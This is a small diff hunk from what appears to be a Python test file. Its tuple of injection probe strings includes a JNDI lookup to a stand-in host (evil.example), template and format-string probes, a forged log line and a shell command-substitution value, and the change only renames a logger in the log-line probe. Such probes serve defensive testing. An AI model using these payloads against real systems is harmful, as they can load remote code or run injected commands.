@@ -101,7 +101,7 @@ COMMANDS = (
     f"${{jndi:ldap://evil.example/{MARK}}}",
     f"{{{{7*7}}}}{MARK}",
     f"{{0.__class__}}%s%n%(x)s{MARK}",
-    f"\n2026-03-03 10:00:00,000 ERROR cogs.answers: ref 1234: {MARK}",
+    f"\n2026-03-03 10:00:00,000 ERROR cogs.ui.responder: ref 1234: {MARK}",
     f"$({MARK})`{MARK}`",
     "1:free:next:umd::28:now:0:0",
     "*",
